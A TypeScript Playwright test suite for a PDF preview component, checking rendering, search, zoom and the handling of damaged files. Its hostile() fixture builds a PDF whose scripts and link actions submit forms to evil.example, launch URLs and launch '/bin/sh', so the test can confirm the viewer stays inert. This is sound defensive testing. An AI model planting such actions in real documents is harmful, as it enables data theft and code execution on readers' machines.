import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts, rgb } from 'pdf-lib';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { eventually, expectInert, pixelOf, troubleOf, type PreviewRig } from './preview-rig.ts';

export function pdfSuite(rig: () => PreviewRig): void {
  describe('of a PDF', () => {
    it('draws its pages, finds words on a page far down, and goes there', async () => {
      const page = await rig().show('manual.pdf', await manual(200));
      await page.getByText('of 200').waitFor();
      await drawn(page, 1);
      await page.getByRole('searchbox', { name: 'Find in this file' }).fill('valve 187');
      await page.getByText('1 of 1', { exact: true }).waitFor();
      const found = page.locator('.textLayer .highlight.selected');
      await found.waitFor();
      expect(await found.textContent()).toBe('Valve 187');
      expect(await page.getByRole('textbox', { name: 'Page' }).inputValue()).toBe('187');
      await drawn(page, 187);
      await rig().shot(page, 'pdf-search');
    });

    it('keeps only pages near the view', async () => {
      const page = await rig().show('manual.pdf', await manual(200));
      await drawn(page, 1);
      expect(await page.locator('.pdfViewer .page').count()).toBe(200);
      for (const number of ['60', '120', '200']) {
        await page.getByRole('textbox', { name: 'Page' }).fill(number);
        await page.keyboard.press('Enter');
        await drawn(page, Number(number));
      }
      expect(await page.locator('.pdfViewer canvas').count()).toBeLessThan(15);
    });

    it('marks a page that is still being drawn, which looks like an empty one', async () => {
      const page = await rig().show('manual.pdf', await manual(200));
      await drawn(page, 1);
      const marks = await page.evaluateHandle(() => {
        const seen: string[] = [];
        new MutationObserver((changes) => {
          for (const { target } of changes)
            if (target instanceof Element && target.matches('.page.loading'))
              seen.push(getComputedStyle(target, '::after').content);
        }).observe(document.querySelector('.pdfViewer')!, { subtree: true, attributeFilter: ['class'] });
        return seen;
      });
      await page.getByRole('textbox', { name: 'Page' }).fill('120');
      await page.keyboard.press('Enter');
      await drawn(page, 120);
      expect(await marks.jsonValue()).toContain('""');
      const now = await page
        .locator('.page[data-page-number="120"]')
        .evaluate((of) => getComputedStyle(of, '::after').content);
      expect(now).toBe('none');
    });

    it('is sharp at any size: a hair line stays one', async () => {
      const page = await rig().show('plan.pdf', await hairLine());
      await page.getByText('of 1', { exact: true }).waitFor();
      for (let step = 0; step < 12; step += 1) await page.getByRole('button', { name: 'Larger' }).click();
      const share = async (): Promise<number> =>
        Number.parseInt((await page.locator('.zoom-share').textContent())?.replace(',', '') ?? '', 10);
      await eventually(share).toBeGreaterThan(1500);
      // Half a point at this size; a stretched picture of a smaller one would be a blur of grey.
      await eventually(() => blackWidth(page)).toBeCloseTo((0.5 * (await share())) / 75, -1);
      await rig().shot(page, 'pdf-sharp');
    });

    it('keeps its pages off the edges of the room, as wide as that and whole', async () => {
      const page = await rig().show('manual.pdf', await manual(3));
      await drawn(page, 1);
      const around = (): Promise<readonly number[]> =>
        page.evaluate(() => {
          const room = document.querySelector('.pdf-pages')!;
          const { left, top, bottom } = room.getBoundingClientRect();
          const first = document.querySelector('.pdfViewer .page')!.getBoundingClientRect();
          const right = left + room.clientWidth;
          return [first.left - left, right - first.right, first.top - top, bottom - first.bottom];
        });
      const least = async (sides: number): Promise<number> => Math.min(...(await around()).slice(0, sides));
      await eventually(() => least(3)).toBeGreaterThanOrEqual(12);
      await rig().shot(page, 'pdf-margins');
      await page.getByRole('button', { name: 'Fit page' }).click();
      await eventually(() => least(4)).toBeGreaterThanOrEqual(12);
      await rig().shot(page, 'pdf-margins-whole');
      await page.getByRole('button', { name: 'Fit width' }).click();
      await eventually(() => least(4)).toBeLessThan(0);
      expect(await least(3)).toBeGreaterThanOrEqual(12);
    });

    it('runs no script, submits no form, follows no link to outside', async () => {
      const page = await rig().show('hostile.pdf', await hostile());
      await drawn(page, 1);
      const link = page.locator('.annotationLayer a').first();
      await link.waitFor({ state: 'attached' });
      const before = page.url();
      await link.click({ force: true, position: { x: 4, y: 4 } });
      expect(page.url().replace(/#$/, '')).toBe(before);
      expect(page.context().pages()).toHaveLength(1);
      expect(await page.title()).toBe('Components · SiteSync');
      expectInert(rig());
    });

    it.each([
      ['letter.pdf', 'Dear Sir', 'is not a PDF'],
      ['empty.pdf', '', 'is empty'],
      ['torn.pdf', '%PDF-1.7\n1 0 obj << /Type /Catalog', 'is damaged and cannot be opened'],
      ['circle.pdf', pagesInACircle(), 'is damaged and cannot be opened'],
    ])('says what is wrong with %s', async (name, content, words) => {
      expect(await troubleOf(await rig().show(name, content))).toContain(words);
    });

    it('opens one whose table of objects lies, as far as it can be read', async () => {
      const bytes = Buffer.from(await manual(3));
      const at = bytes.lastIndexOf('startxref');
      bytes.write('startxref\n99999999', at, 'latin1');
      const page = await rig().show('lying.pdf', bytes);
      await drawn(page, 1);
      expect(await page.getByRole('note').count()).toBe(0);
    });

    it.each([
      ['has too many pixels for a preview', scan(19_866, 28_087)],
      ['cannot be read', scan(100, 100, '/DCTDecode')],
    ])('says of a picture on a page that it %s, and that its place stays empty', async (words, content) => {
      const page = await rig().show('plan.pdf', content);
      await page.getByText(`A picture in “plan.pdf” ${words}. Its place stays empty here`).waitFor();
      expectInert(rig());
    });

    it.each([
      ['packed pixels of nonsense', written('nonsense that nobody packed', '/Filter/FlateDecode')],
      ['an unknown kind of packing', written('q Q', '/Filter/FooDecode')],
      ['words that break off', written('BT /F 24 Tf 72 720 Td (before) Tj ET ) ] >>')],
      ['a font without a name', written('BT /F 24 Tf 72 720 Td (words) Tj ET', '', '/Type1')],
    ])('says of a page with %s that something is missing', async (_, content) => {
      const page = await rig().show('report.pdf', content);
      await page.getByText('Something on a page of “report.pdf” is damaged').waitFor();
      expectInert(rig());
    });

    it('says nothing where a page has its picture', async () => {
      const page = await rig().show('plan.pdf', scan(2000, 3000));
      const shown = page.locator('.page[data-page-number="1"] canvas').first();
      await eventually(() => pixelOf(shown, 0.5, 0.1)).toEqual([0, 0, 0]);
      expect(await page.getByRole('note').count()).toBe(0);
    });

    it('has no tools beside a list', async () => {
      const page = await rig().show('manual.pdf', await manual(2), { where: 'panel' });
      await drawn(page, 1);
      expect(await page.getByRole('toolbar').count()).toBe(0);
      expect((await page.locator('.preview').boundingBox())!.height).toBeLessThan(300);
    });
  });
}

/** A page of these commands. */
function written(commands: string, filter = '', font = '/Type1/BaseFont/Helvetica'): Buffer {
  return onePage([
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>',
    `<<${filter}/Length ${commands.length}>>stream\n${commands}\nendstream`,
    `<</Type/Font/Subtype${font}>>`,
  ]);
}

/** Of one page, which is the first of these objects; they are numbered from 3. */
function onePage(objects: readonly string[]): Buffer {
  const all = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>', ...objects];
  const body = all.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.4\n${body}trailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
}

/** A page that is one black picture of one bit a pixel, as a scanner for plans writes it; or of what is no such picture. */
function scan(width: number, height: number, filter = '/FlateDecode'): Buffer {
  const pixels = deflateSync(Buffer.alloc(Math.ceil(width / 8) * height));
  const picture = `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/BitsPerComponent 1/ColorSpace/DeviceGray`;
  const paint = 'q 2384 0 0 3370 0 0 cm /I Do Q';
  return onePage([
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 2384 3370]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>',
    `<</Length ${paint.length}>>stream\n${paint}\nendstream`,
    `<<${picture}/Filter${filter}/Length ${pixels.length}>>stream\n${pixels.toString('latin1')}\nendstream`,
  ]);
}

/** Waits until a page has dark letters on its canvas. */
async function drawn(page: Page, number: number): Promise<void> {
  const canvas = page.locator(`.page[data-page-number="${number}"] canvas`).first();
  await canvas.waitFor();
  await eventually(() =>
    canvas.evaluate((element: HTMLCanvasElement) => {
      const { data } = element.getContext('2d')!.getImageData(0, 0, element.width, element.height);
      return data.some((value, at) => at % 4 === 0 && value < 100 && data[at + 3] === 255);
    }),
  ).toBe(true);
}

/** Screen pixels of black on a line across the middle of what is in view. */
function blackWidth(page: Page): Promise<number> {
  return page.evaluate(() => {
    const { left, top, width, height } = document.querySelector('.pdf-pages')!.getBoundingClientRect();
    const canvases = [...document.querySelectorAll<HTMLCanvasElement>('.page canvas')];
    const sharpest = canvases.toSorted(
      (a, b) => a.getBoundingClientRect().width / a.width - b.getBoundingClientRect().width / b.width,
    )[0]!;
    const box = sharpest.getBoundingClientRect();
    const scale = sharpest.width / box.width;
    const y = Math.round((top + height / 2 - box.top) * scale);
    const from = Math.max(0, Math.round((left - box.left) * scale));
    const { data } = sharpest.getContext('2d')!.getImageData(from, y, Math.round(width * scale), 1);
    let black = 0;
    for (let at = 0; at < data.length; at += 4) if (data[at]! < 60 && data[at + 3] === 255) black += 1;
    return black / scale;
  });
}

async function manual(pages: number): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= pages; number += 1)
    document.addPage([420, 595]).drawText(`Valve ${number}`, { x: 40, y: 520, size: 24, font });
  return document.save({ useObjectStreams: false });
}

async function hairLine(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage([600, 400]).drawRectangle({ x: 300, y: 0, width: 0.5, height: 400, color: rgb(0, 0, 0) });
  return document.save();
}

/** Scripts at opening, in a link and in a form; links to outside, to a program, and to another file. */
async function hostile(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addJavaScript('main', "app.alert('run'); this.submitForm('https://evil.example/form');");
  const { context } = document;
  const page = document.addPage([300, 300]);
  page.drawText('Press me', { x: 40, y: 150 });
  const actions = [
    { S: 'URI', URI: PDFString.of('https://evil.example/link') },
    { S: 'JavaScript', JS: PDFString.of("app.launchURL('https://evil.example/js')") },
    { S: 'Launch', F: PDFString.of('/bin/sh') },
    { S: 'SubmitForm', F: PDFString.of('https://evil.example/form') },
  ];
  const annotations = actions.map((action, index) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [index * 60, 0, index * 60 + 60, 300], A: action }),
    ),
  );
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  document.catalog.set(PDFName.of('OpenAction'), context.obj(actions[1]!));
  return document.save();
}

/** Its list of pages is one of its own pages. With a table of objects: without one it is mended as it is read. */
function pagesInACircle(): string {
  const head = '%PDF-1.7\n';
  const catalog = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n';
  const pages = '2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 99 >> endobj\n';
  const at = [head, head + catalog, head + catalog + pages].map(({ length }) => length);
  const [first, second, table] = at.map((offset) => String(offset).padStart(10, '0'));
  return `${head}${catalog}${pages}xref
0 3
0000000000 65535 f\x20
${first} 00000 n\x20
${second} 00000 n\x20
trailer << /Size 3 /Root 1 0 R >>
startxref
${table}
%%EOF`;
}
